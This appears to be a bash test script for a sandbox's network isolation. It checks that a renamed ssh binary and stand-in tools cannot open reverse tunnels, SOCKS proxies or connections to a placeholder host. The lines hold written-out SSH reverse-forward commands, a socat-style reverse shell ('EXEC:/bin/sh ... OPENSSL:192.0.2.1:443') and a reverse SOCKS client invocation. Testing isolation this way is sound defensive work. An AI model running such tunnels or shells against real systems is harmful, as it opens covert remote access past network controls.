#!/usr/bin/env bash
# The same in other words, by a copy with another name, as a proxy and as an option; and by other tools, which are stood in
# for by a copy of true.
# shellcheck source=testdata/attack/common.sh
. "$(dirname "$0")/../common.sh"
own_mounts_and_network
cp "$(readlink -f /usr/bin/ssh)" "$work/agent"
cp "$(readlink -f /bin/true)" "$work/update"

! ./agent nobody@192.0.2.1 -o BatchMode=yes -fNR 8080:localhost:80 2>/dev/null || fail "somebody answered"
! ssh -o BatchMode=yes -D 127.0.0.1:1080 -N nobody@192.0.2.1 2>/dev/null || fail "somebody answered"
! ssh -oBatchMode=yes -o RemoteForward=1080 192.0.2.1 2>/dev/null || fail "somebody answered"
./update TCP4-LISTEN:8080,fork,reuseaddr TCP:192.0.2.1:3389
./update EXEC:/bin/sh,pty,stderr OPENSSL:192.0.2.1:443
./update client --keepalive 25s https://192.0.2.1 R:socks
